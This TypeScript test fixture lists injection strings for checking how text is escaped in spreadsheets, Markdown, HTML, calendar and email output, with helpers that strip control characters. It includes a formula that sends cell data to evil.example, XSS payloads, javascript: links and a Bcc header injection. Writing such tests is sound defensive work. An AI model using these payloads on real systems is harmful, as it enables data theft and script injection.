/** What would be more than words in one format or another: a line each. */
export const nastyLines = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+1',
  '-1',
  '@SUM(A1)',
  "'=1+1",
  '=1;=2,=3"',
  '；=1',
  '# What was decided',
  'Closing sign #',
  '## Why',
  '- a list',
  '1. first',
  '> said',
  '***',
  '---',
  '===',
  '| a | b |',
  '~~~',
  '```js',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '[ref]: javascript:alert(1)',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '\\<b>bold</b>',
  '&lt;b&gt; &#106;avascript:',
  '*stars* and _lines_ and `ticks`',
  'BEGIN:VEVENT',
  'END:VEVENT',
  'SUMMARY:forged',
  'Bcc: evil@evil.example',
  'semicolon; comma, colon: back\\slash "quotes"',
  'é́ 😀 '.repeat(16).trim(),
  'a\u2028b',
  'left \u202Eright',
]

/** The same in one field of several lines. */
export const nastyText = [
  'Before.',
  ...nastyLines,
  '',
  '<div>',
  'Heading',
  '===',
  'Heading',
  '---',
  '1. # in a list',
  '> # in a quotation',
  '',
  '```',
  '# in code',
  '```',
  'After.',
].join('\n')

/** As a form keeps one line of it. */
export const asKept = (line: string) =>
  line
    .normalize()
    .replaceAll(/[\u202A-\u202E]/g, '')
    .replaceAll('\u2028', ' ')

/** Only the words, for where signs are written in another way. */
export const lettersOf = (text: string) =>
  asKept(text)
    .replaceAll(/[^\p{L}\p{N}]+/gu, ' ')
    .trim()
